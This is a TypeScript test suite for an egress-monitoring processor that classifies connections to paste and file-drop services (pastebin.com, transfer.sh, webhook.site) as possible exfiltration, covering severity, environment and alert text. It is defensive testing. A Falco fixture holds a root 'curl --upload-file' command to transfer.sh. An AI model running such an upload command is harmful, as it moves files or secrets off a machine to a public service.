import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { CatalogMatcher } from '../../../src/catalog/matcher.js';
import { CATEGORIES } from '../../../src/catalog/paste-services.js';
import type { Category } from '../../../src/catalog/paste-services.js';
import { createDefaultConfig } from '../../../src/component/types.js';
import { ATTR, PW, RULE } from '../../../src/model/attributes.js';
import type { Activity, Detection, PipelineItem } from '../../../src/model/detection.js';
import { observation } from '../../../src/model/observation.js';
import type { Observation } from '../../../src/model/observation.js';
import { parseRfc3339Nano } from '../../../src/model/time.js';
import { classifyActivity, DEFAULT_THRESHOLDS } from '../../../src/processors/paste_classifier/activity.js';
import { buildDetection, matchObservation, resolveEnvironment } from '../../../src/processors/paste_classifier/build-detection.js';
import { pasteClassifierFactory } from '../../../src/processors/paste_classifier/factory.js';
import { PasteClassifierProcessor } from '../../../src/processors/paste_classifier/paste-classifier.js';
import { SEVERITY_TABLE, severityFor } from '../../../src/processors/paste_classifier/severity.js';
import { PastewatchError } from '../../../src/util/errors.js';
import { processorSettings, runThrough } from '../../helpers/processor-settings.js';

const T0 = 1_764_880_000_123_456_789n;
const flow = (bytesSent: number, bytesReceived: number) => ({ packetsSent: 10, bytesSent, packetsReceived: 8, bytesReceived, firstSeenUnixNano: T0, lastSeenUnixNano: T0 + 5n, state: 'fin' });

function conn(extra: Partial<Observation> = {}): Observation {
  return observation({
    kind: 'connection',
    timeUnixNano: T0,
    receiver: 'pcap',
    transport: 'tcp',
    networkType: 'ipv4',
    source: { address: '10.0.0.5', port: 51234 },
    destination: { address: '104.20.1.1', port: 443 },
    names: [{ name: 'www.pastebin.com', evidence: 'tls.sni' }],
    ...extra,
  });
}

const dnsObs = (name = 'pastebin.com'): Observation =>
  observation({
    kind: 'dns',
    timeUnixNano: T0,
    receiver: 'pcap',
    source: { address: '10.0.0.5', port: 40000 },
    destination: { address: '10.0.0.53', port: 53 },
    names: [{ name, evidence: 'dns.query' }],
    dns: { id: 7, response: true, rcode: 0, query: name, qtype: 'A', answers: [{ name, type: 'A', data: '104.20.1.1', ttl: 60 }], transport: 'udp' },
  });

const allCats = new CatalogMatcher({ categories: CATEGORIES });
let seq = 0;
const fixedHex = (n: number): string => (++seq).toString(16).padStart(2 * n, '0');
function detect(obs: Observation, env: Detection['environment'] = 'production', matcher = allCats, traceUrlTemplate = ''): Detection {
  const m = matchObservation(obs, matcher);
  assert.ok(m, 'expected a match');
  return buildDetection(obs, m, { environment: env, nowUnixNano: T0 + 1000n, randomHex: fixedHex, traceUrlTemplate });
}

describe('activity', () => {
  const rows: [string, Observation, Activity][] = [
    ['dns observation', dnsObs(), 'lookup'],
    ['POST', conn({ http: { method: 'POST', target: '/api' } }), 'upload'],
    ['PUT (lower case)', conn({ http: { method: 'put' } }), 'upload'],
    ['PATCH', conn({ http: { method: 'PATCH' } }), 'upload'],
    ['sent >= 2x received and >= 4096', conn({ flow: flow(8192, 4096) }), 'upload'],
    ['sent big but ratio below 2', conn({ flow: flow(8000, 4001) }), 'connect'],
    ['sent 2x but below 4096', conn({ flow: flow(4095, 100) }), 'connect'],
    ['received >= 2x sent and >= 4096', conn({ flow: flow(1000, 4096) }), 'download'],
    ['received 2x but below 4096', conn({ flow: flow(100, 4095) }), 'connect'],
    ['GET without counters', conn({ http: { method: 'GET', target: '/raw/abc' } }), 'download'],
    ['HEAD', conn({ http: { method: 'HEAD' } }), 'download'],
    ['GET whose flow says upload', conn({ http: { method: 'GET' }, flow: flow(100000, 200) }), 'upload'],
    ['no facts', conn(), 'connect'],
    ['hubble with HTTP POST', observation({ kind: 'hubble', timeUnixNano: T0, receiver: 'hubble', http: { method: 'POST' } }), 'upload'],
    ['falco without facts', observation({ kind: 'falco', timeUnixNano: T0, receiver: 'falco' }), 'connect'],
  ];
  for (const [name, obs, want] of rows) test(name, () => assert.equal(classifyActivity(obs, DEFAULT_THRESHOLDS), want));

  test('thresholds come from config', () => {
    const th = { uploadRatio: 1, uploadMinBytes: 10, downloadRatio: 1, downloadMinBytes: 10 };
    assert.equal(classifyActivity(conn({ flow: flow(20, 20) }), th), 'upload');
    assert.equal(classifyActivity(conn({ flow: flow(5, 20) }), th), 'download');
  });
});

describe('severity', () => {
  // The documented table (docs/processors/paste_classifier.md), row by row, through buildDetection.
  const expected: Record<Category, [number, number, number, number]> = {
    //               lookup connect download upload
    paste: [17, 17, 17, 21],
    file_drop: [17, 17, 17, 21],
    request_sink: [17, 17, 17, 21],
    paste_like: [9, 13, 13, 13],
    code_hosting_raw: [9, 9, 9, 13],
    cloud_storage: [9, 9, 9, 13],
  };
  const domains: Record<Category, string> = { paste: 'pastebin.com', file_drop: 'transfer.sh', request_sink: 'webhook.site', paste_like: 'telegra.ph', code_hosting_raw: 'raw.githubusercontent.com', cloud_storage: 'mega.nz' };
  const text: Record<number, string> = { 9: 'INFO', 13: 'WARN', 17: 'ERROR', 21: 'FATAL' };
  for (const cat of CATEGORIES) {
    test(`${cat}: lookup / connect / download / upload`, () => {
      const d = domains[cat];
      const obs = [dnsObs(d), conn({ names: [{ name: d, evidence: 'tls.sni' }] }), conn({ names: [{ name: d, evidence: 'tls.sni' }], http: { method: 'GET' } }), conn({ names: [{ name: d, evidence: 'tls.sni' }], http: { method: 'POST' } })];
      const got = obs.map((o) => detect(o));
      assert.deepEqual(got.map((x) => x.activity), ['lookup', 'connect', 'download', 'upload']);
      assert.deepEqual(got.map((x) => x.severityNumber), expected[cat]);
      assert.deepEqual(got.map((x) => x.severityText), expected[cat].map((n) => text[n]));
      assert.deepEqual(expected[cat].map((n) => text[n]), (['lookup', 'connect', 'download', 'upload'] as Activity[]).map((a) => SEVERITY_TABLE[cat][a]));
    });
  }
  test('a catalog entry severity is a floor; blocked keeps the severity', () => {
    assert.deepEqual(severityFor('cloud_storage', 'lookup', 'FATAL'), { number: 21, text: 'FATAL' });
    assert.deepEqual(severityFor('paste', 'upload', 'INFO'), { number: 21, text: 'FATAL' });
    const m = new CatalogMatcher({ extraDomains: [{ domain: 'exfil.example', category: 'cloud_storage', severity: 'ERROR' }] });
    assert.equal(detect(dnsObs('exfil.example'), 'ci', m).severityNumber, 17);
    const b = detect(conn({ blocked: true, http: { method: 'POST' } }));
    assert.equal(b.severityNumber, 21);
    assert.equal(b.attributes[PW.BLOCKED], true);
    assert.match(b.body, /\(blocked\)/);
  });
});

describe('environment', () => {
  test('fixed settings win; auto = ci on cicd.* attributes, else production', () => {
    assert.equal(resolveEnvironment('staging', true, conn()), 'staging');
    assert.equal(resolveEnvironment('auto', true, conn()), 'ci');
    assert.equal(resolveEnvironment('auto', false, conn({ attributes: { [ATTR.CICD_PIPELINE_RUN_ID]: '42' } })), 'ci');
    assert.equal(resolveEnvironment('auto', false, conn({ attributes: { 'k8s.pod.name': 'x' } })), 'production');
  });

  test('auto detects a CI provider from the settings env (GITHUB_ACTIONS=true)', async () => {
    const gh = new PasteClassifierProcessor(processorSettings('paste_classifier', { GITHUB_ACTIONS: 'true' }), createDefaultConfig(pasteClassifierFactory));
    const plain = new PasteClassifierProcessor(processorSettings('paste_classifier', {}), createDefaultConfig(pasteClassifierFactory));
    const fixed = new PasteClassifierProcessor(processorSettings('paste_classifier', { GITHUB_ACTIONS: 'true' }), pasteClassifierFactory.schema.parse({ environment: 'development' }));
    const [a] = (await runThrough(gh, [conn()])) as Detection[];
    const [b] = (await runThrough(plain, [conn()])) as Detection[];
    const [c] = (await runThrough(fixed, [conn()])) as Detection[];
    assert.equal(a.environment, 'ci');
    assert.equal(a.attributes[PW.ENVIRONMENT], 'ci');
    assert.equal(b.environment, 'production');
    assert.equal(c.environment, 'development');
    assert.match(a.body, / in ci: /);
    assert.match((a.attributes[PW.RECOMMENDATION] as string[]).join('\n'), /build logs/);
    assert.match((b.attributes[PW.RECOMMENDATION] as string[]).join('\n'), /incident response/);
  });
});

const REQUIRED: [string, 'string' | 'number' | 'string[]'][] = [
  [ATTR.SERVER_ADDRESS, 'string'],
  [ATTR.SOURCE_ADDRESS, 'string'],
  [ATTR.SOURCE_PORT, 'number'],
  [ATTR.DESTINATION_ADDRESS, 'string'],
  [ATTR.DESTINATION_PORT, 'number'],
  [ATTR.NETWORK_TRANSPORT, 'string'],
  [PW.SERVICE, 'string'],
  [PW.CATEGORY, 'string'],
  [PW.EVIDENCE, 'string[]'],
  [PW.NAMES, 'string[]'],
  [PW.ACTIVITY, 'string'],
  [PW.ENVIRONMENT, 'string'],
  [PW.RECOMMENDATION, 'string[]'],
  [PW.IMPORTANCE, 'string'],
  [ATTR.SECURITY_RULE_NAME, 'string'],
  [ATTR.SECURITY_RULE_CATEGORY, 'string'],
  [ATTR.SECURITY_RULE_DESCRIPTION, 'string'],
  [ATTR.SECURITY_RULE_REFERENCE, 'string'],
  [ATTR.SECURITY_RULE_RULESET_NAME, 'string'],
  [PW.ATTACK_TACTIC_ID, 'string'],
  [PW.ATTACK_TACTIC_NAME, 'string'],
  [PW.ATTACK_TECHNIQUE_ID, 'string'],
  [PW.ATTACK_TECHNIQUE_NAME, 'string'],
  [PW.ATTACK_SUBTECHNIQUE_ID, 'string'],
  [PW.ATTACK_SUBTECHNIQUE_NAME, 'string'],
  [PW.COUNT, 'number'],
  [PW.FIRST_SEEN, 'string'],
  [PW.LAST_SEEN, 'string'],
  [PW.DETECTION_ID, 'string'],
  [PW.RECEIVER, 'string'],
];

function assertContract(d: Detection): void {
  for (const [k, type] of REQUIRED) {
    const v = d.attributes[k];
    assert.ok(v !== undefined, `${k} missing`);
    if (type === 'string[]') assert.ok(Array.isArray(v) && v.every((x) => typeof x === 'string'), `${k} should be string[]`);
    else assert.equal(typeof v, type, `${k} should be ${type}`);
  }
  assert.equal(d.attributes[ATTR.SECURITY_RULE_NAME], 'plaintext_communication');
  assert.equal(d.attributes[ATTR.SECURITY_RULE_CATEGORY], 'command_and_control');
  assert.equal(d.attributes[ATTR.SECURITY_RULE_REFERENCE], RULE.REFERENCE);
  assert.equal(d.attributes[PW.IMPORTANCE], 'critical');
  assert.equal(d.attributes[PW.ATTACK_TACTIC_ID], 'TA0011');
  assert.equal(d.attributes[PW.ATTACK_TECHNIQUE_ID], 'T1071');
  assert.equal(d.attributes[PW.ATTACK_SUBTECHNIQUE_ID], 'T1071.001');
  assert.equal(d.attributes[PW.DETECTION_ID], d.id);
  assert.equal(parseRfc3339Nano(d.attributes[PW.FIRST_SEEN] as string), d.timeUnixNano);
  assert.match(d.id, /^[0-9a-f]{16}$/);
  assert.match(d.traceId, /^[0-9a-f]{32}$/);
  assert.match(d.spanId, /^[0-9a-f]{16}$/);
}

describe('buildDetection', () => {
  test('the attribute contract holds for every observation kind', async () => {
    const p = new PasteClassifierProcessor(processorSettings('paste_classifier'), createDefaultConfig(pasteClassifierFactory));
    const hubble = observation({
      kind: 'hubble',
      timeUnixNano: T0,
      receiver: 'hubble/relay',
      transport: 'tcp',
      source: { address: '10.1.2.3', port: 40404 },
      destination: { address: '104.20.1.1', port: 443 },
      names: [{ name: 'paste.ee', evidence: 'hubble.destination_names' }],
      blocked: true,
      attributes: { 'k8s.pod.name': 'api-7d9', 'k8s.namespace.name': 'shop', 'hubble.verdict': 'DROPPED' },
    });
    const falco = observation({
      kind: 'falco',
      timeUnixNano: T0,
      receiver: 'falco',
      transport: 'tcp',
      source: { address: '10.1.2.4', port: 40405 },
      destination: { address: '5.6.7.8', port: 443 },
      names: [{ name: 'transfer.sh', evidence: 'falco.fd.sip.name' }],
      process: { pid: 99, ppid: 1, executableName: 'curl', executablePath: '/usr/bin/curl', commandLine: 'curl --upload-file x https://transfer.sh/', user: 'root', uid: 0, containerId: 'abcdef0123456789', ancestry: ['1:sh'] },
      attributes: { 'falco.rule': 'Paste egress', 'container.id': 'ignored-when-process-knows' },
    });
    const dnsOnly = observation({ kind: 'dns', timeUnixNano: T0, receiver: 'hubble', names: [{ name: 'webhook.site', evidence: 'hubble.dns' }] });
    const out = (await runThrough(p, [dnsObs(), conn({ flow: flow(9000, 100) }), hubble, falco, dnsOnly])) as Detection[];
    assert.equal(out.length, 5);
    for (const d of out) assertContract(d);
    const [dns, c, h, f, dOnly] = out;
    assert.equal(dns.attributes[ATTR.DNS_QUESTION_NAME], 'pastebin.com');
    assert.deepEqual(dns.attributes[ATTR.DNS_ANSWERS], ['104.20.1.1']);
    assert.equal(dns.attributes[ATTR.NETWORK_TRANSPORT], 'udp');
    assert.equal(c.attributes[PW.BYTES_SENT], 9000);
    assert.equal(c.attributes[PW.PACKETS_RECEIVED], 8);
    assert.equal(c.attributes[ATTR.NETWORK_TYPE], 'ipv4');
    assert.equal(c.activity, 'upload');
    assert.equal(h.attributes['k8s.pod.name'], 'api-7d9');
    assert.equal(h.attributes['hubble.verdict'], 'DROPPED');
    assert.equal(h.attributes[PW.BLOCKED], true);
    assert.match(h.body, /^pod shop\/api-7d9 connected to paste\.ee \(via hubble\.destination_names\) from 10\.1\.2\.3 in production \(blocked\): /);
    assert.equal(f.attributes[ATTR.PROCESS_PID], 99);
    assert.equal(f.attributes[ATTR.PROCESS_PARENT_PID], 1);
    assert.equal(f.attributes[ATTR.PROCESS_EXECUTABLE_PATH], '/usr/bin/curl');
    assert.equal(f.attributes[ATTR.PROCESS_COMMAND_LINE], 'curl --upload-file x https://transfer.sh/');
    assert.equal(f.attributes[ATTR.PROCESS_OWNER], 'root');
    assert.equal(f.attributes[ATTR.CONTAINER_ID], 'abcdef0123456789');
    assert.deepEqual(f.attributes[PW.PROCESS_ANCESTRY], ['1:sh']);
    assert.equal(f.attributes['falco.rule'], 'Paste egress');
    assert.equal(f.attributes[PW.RECEIVER], 'falco');
    // Genuinely unknown endpoints are '' / 0, never missing.
    assert.equal(dOnly.attributes[ATTR.SOURCE_ADDRESS], '');
    assert.equal(dOnly.attributes[ATTR.DESTINATION_PORT], 0);
    assert.equal(dOnly.attributes[ATTR.NETWORK_TRANSPORT], '');
    assert.equal(dOnly.body, 'a workload looked up webhook.site (via hubble.dns) in production: early warning of exfiltration, command and control or code injection — start incident response; isolate the host; rotate exposed credentials');
  });

  test('body text, ids, times and trace context', () => {
    const obs = conn({
      http: { method: 'POST', target: 'https://www.pastebin.com/api/api_post.php' },
      process: { pid: 4242, executableName: 'curl' },
      tls: { ech: false },
      traceParent: { traceId: '0af7651916cd43dd8448eb211c80319c', spanId: 'b7ad6b7169203331', traceFlags: 0, traceState: 'vendor=x' },
    });
    const d = detect(obs, 'ci', allCats, 'https://grafana.example/explore?traceId={trace_id}&span={span_id}');
    assert.equal(d.body, 'curl (pid 4242) uploaded to pastebin.com (www.pastebin.com via tls.sni) from 10.0.0.5 in ci: possible secret exfiltration — examine recent changes and build logs; tighten egress');
    assert.equal(d.traceId, '0af7651916cd43dd8448eb211c80319c');
    assert.equal(d.parentSpanId, 'b7ad6b7169203331');
    assert.equal(d.traceFlags, 0);
    assert.equal(d.traceState, 'vendor=x');
    assert.notEqual(d.spanId, 'b7ad6b7169203331');
    assert.equal(d.attributes[PW.TRACE_URL], `https://grafana.example/explore?traceId=0af7651916cd43dd8448eb211c80319c&span=${d.spanId}`);
    assert.equal(d.attributes[ATTR.URL_FULL], 'https://www.pastebin.com/api/api_post.php');
    assert.equal(d.attributes[ATTR.HTTP_REQUEST_METHOD], 'POST');
    assert.equal(d.attributes[PW.TLS_ECH], false);
    assert.equal(d.timeUnixNano, T0);
    assert.equal(d.observedTimeUnixNano, T0 + 1000n);
    assert.equal(d.firstSeenUnixNano, T0);
    assert.equal(d.lastSeenUnixNano, T0);
    assert.equal(d.count, 1);
    assert.equal(d.attributes[PW.FIRST_SEEN], '2025-12-04T20:26:40.123456789Z');
    assert.equal(d.service, 'pastebin.com');
    assert.equal(d.serviceName, 'Pastebin');
    assert.equal(d.matchedName, 'www.pastebin.com');
    assert.equal(d.attributes[ATTR.SERVER_ADDRESS], 'www.pastebin.com');
    assert.equal(d.attributes[ATTR.SERVER_PORT], 443);
    assert.deepEqual(d.attributes[PW.RECOMMENDATION], [
      'find out what was uploaded: the process, its command line and the files and secrets it could read',
      'examine the recent changes and build logs for unexpected scripts or dependencies',
      'tighten egress so builds cannot reach paste services',
      'audit the dependencies used by the build (dependency poisoning, tainted artifacts)',
    ]);
    // A relative target is not a URL.
    assert.equal(detect(conn({ http: { method: 'GET', target: '/raw/x' } })).attributes[ATTR.URL_FULL], undefined);
    // Without a parent: a new trace, sampled.
    const n = detect(conn());
    assert.equal(n.parentSpanId, undefined);
    assert.equal(n.traceFlags, 1);
    assert.notEqual(n.traceId, d.traceId);
  });

  test('evidence precedence picks the strongest name; evidence and names are unique unions', () => {
    const obs = conn({
      names: [
        { name: 'pastebin.com', evidence: 'ip.correlated' },
        { name: 'example.com', evidence: 'tls.sni' },
        { name: 'paste.ee', evidence: 'dns.answer' },
        { name: 'www.paste.ee', evidence: 'http.host' },
        { name: 'pastebin.com', evidence: 'ip.correlated' },
      ],
    });
    const d = detect(obs);
    assert.equal(d.service, 'paste.ee');
    assert.equal(d.matchedName, 'www.paste.ee');
    assert.deepEqual(d.attributes[PW.EVIDENCE], ['ip.correlated', 'dns.answer', 'http.host']);
    assert.deepEqual(d.attributes[PW.NAMES], ['pastebin.com', 'paste.ee', 'www.paste.ee']);
    assert.match(d.body, /connected to paste\.ee \(www\.paste\.ee via http\.host\)/);
    const q = detect(conn({ names: [{ name: 'PASTEBIN.COM.', evidence: 'quic.sni' }, { name: 'transfer.sh', evidence: 'falco.fd.sip.name' }] }));
    assert.equal(q.matchedName, 'pastebin.com');
    assert.equal(q.attributes[ATTR.SERVER_ADDRESS], 'pastebin.com');
  });
});

describe('paste_classifier processor', () => {
  test('defaults and config validation', () => {
    const c = createDefaultConfig(pasteClassifierFactory);
    assert.equal(c.environment, 'auto');
    assert.equal(c.upload_ratio, 2);
    assert.equal(c.download_min_bytes, 4096);
    assert.equal(c.trace_url_template, '');
    assert.deepEqual(c.catalog.categories, ['paste', 'file_drop', 'request_sink']);
    assert.deepEqual(pasteClassifierFactory.validate!(pasteClassifierFactory.schema.parse({ trace_url_template: 'https://x/', catalog: { allowed_domains: ['no way'] } })), [
      { path: ['catalog', 'allowed_domains', 0], message: '"no way" is not a valid hostname' },
      { path: ['trace_url_template'], message: 'must contain {trace_id} or {span_id}' },
    ]);
    assert.equal(pasteClassifierFactory.schema.safeParse({ environment: 'prod' }).success, false);
    assert.equal(pasteClassifierFactory.schema.safeParse({ catalog: { unknown: 1 } }).success, false);
    assert.throws(
      () => new PasteClassifierProcessor(processorSettings('paste_classifier/x'), pasteClassifierFactory.schema.parse({ catalog: { extra_domains: [{ domain: '-', category: 'paste' }] } })),
      (e: unknown) => e instanceof PastewatchError && e.code === 'CONFIG_INVALID' && e.message.startsWith('processors::paste_classifier/x: catalog extra domain "-"'),
    );
  });

  test('unmatched observations are dropped and counted; detections pass through; catalog config applies', async () => {
    const settings = processorSettings('paste_classifier');
    const p = new PasteClassifierProcessor(settings, pasteClassifierFactory.schema.parse({ catalog: { categories: ['paste', 'code_hosting_raw'], allowed_domains: ['paste.ee'] } }));
    const prior = { ...detect(conn()), id: 'prior' };
    const items: PipelineItem[] = [
      conn({ names: [{ name: 'example.com', evidence: 'tls.sni' }] }),
      conn({ names: [] }),
      conn({ names: [{ name: 'paste.ee', evidence: 'tls.sni' }] }),
      conn({ names: [{ name: 'raw.githubusercontent.com', evidence: 'tls.sni' }] }),
      prior,
      conn(),
    ];
    const out = await runThrough(p, items);
    assert.deepEqual(out.map((x) => (x.type === 'detection' ? `${x.id === 'prior' ? 'prior' : 'new'}:${x.service}` : 'obs')), ['new:raw.githubusercontent.com', 'prior:pastebin.com', 'new:pastebin.com']);
    assert.equal(settings.registry.get('paste_classifier', 'dropped', { reason: 'unmatched' }), 3);
    assert.equal(settings.registry.get('paste_classifier', 'received'), 6);
    assert.equal(settings.registry.get('paste_classifier', 'emitted'), 3);
    assert.equal(settings.registry.get('paste_classifier', 'detections', { category: 'paste' }), 1);
  });

  test('a malformed observation is passed on unclassified and counted, the stream goes on', async () => {
    const settings = processorSettings('paste_classifier');
    const p = new PasteClassifierProcessor(settings, createDefaultConfig(pasteClassifierFactory));
    const bad = conn();
    (bad as unknown as { names: unknown }).names = 42;
    const out = await runThrough(p, [bad, conn()]);
    assert.equal(out.length, 2);
    assert.equal(out[0], bad);
    assert.equal(out[1].type, 'detection');
    assert.equal(settings.registry.get('paste_classifier', 'failed', { reason: 'classify' }), 1);
  });
});

describe('derived detection ids', () => {
  test('the same observation classified in two pipelines gets the same ids; another observation does not', () => {
    const m = (o: Observation) => matchObservation(o, allCats)!;
    const a = conn();
    const copy = { ...conn(), attributes: { 'k8s.pod.name': 'x' } };
    const d1 = buildDetection(a, m(a), { environment: 'ci' });
    const d2 = buildDetection(copy, m(copy), { environment: 'ci' });
    assert.deepEqual([d1.id, d1.traceId, d1.spanId], [d2.id, d2.traceId, d2.spanId]);
    assert.match(d1.traceId, /^[0-9a-f]{32}$/);
    assert.match(d1.spanId, /^[0-9a-f]{16}$/);
    const other = conn({ source: { address: '10.0.0.5', port: 51235 } });
    const d3 = buildDetection(other, m(other), { environment: 'ci' });
    assert.notEqual(d3.spanId, d1.spanId);
    assert.notEqual(d3.id, d1.id);
    const parented = conn({ traceParent: { traceId: '0af7651916cd43dd8448eb211c80319c', spanId: 'b7ad6b7169203331', traceFlags: 0 } });
    const d4 = buildDetection(parented, m(parented), { environment: 'ci' });
    assert.equal(d4.traceId, '0af7651916cd43dd8448eb211c80319c');
    assert.equal(d4.parentSpanId, 'b7ad6b7169203331');
  });
});

test('regression: url.full never carries URL credentials or secret query values', () => {
  // Found in the security review: a raw absolute-form target (from any receiver) went into url.full as sent.
  const matcher = new CatalogMatcher();
  const obs = observation({
    kind: 'connection', timeUnixNano: T0, receiver: 'pcap', transport: 'tcp',
    source: { address: '10.0.0.5', port: 50000 }, destination: { address: '104.20.1.1', port: 80 },
    names: [{ name: 'pastebin.com', evidence: 'http.target' }],
    http: { method: 'POST', target: 'http://ci:hunter2@pastebin.com/api/api_post.php?api_dev_key=k1' },
  });
  const d = buildDetection(obs, matchObservation(obs, matcher)!, { environment: 'ci' });
  assert.equal(d.attributes[ATTR.URL_FULL], 'http://REDACTED:REDACTED@pastebin.com/api/api_post.php?api_dev_key=REDACTED');
});
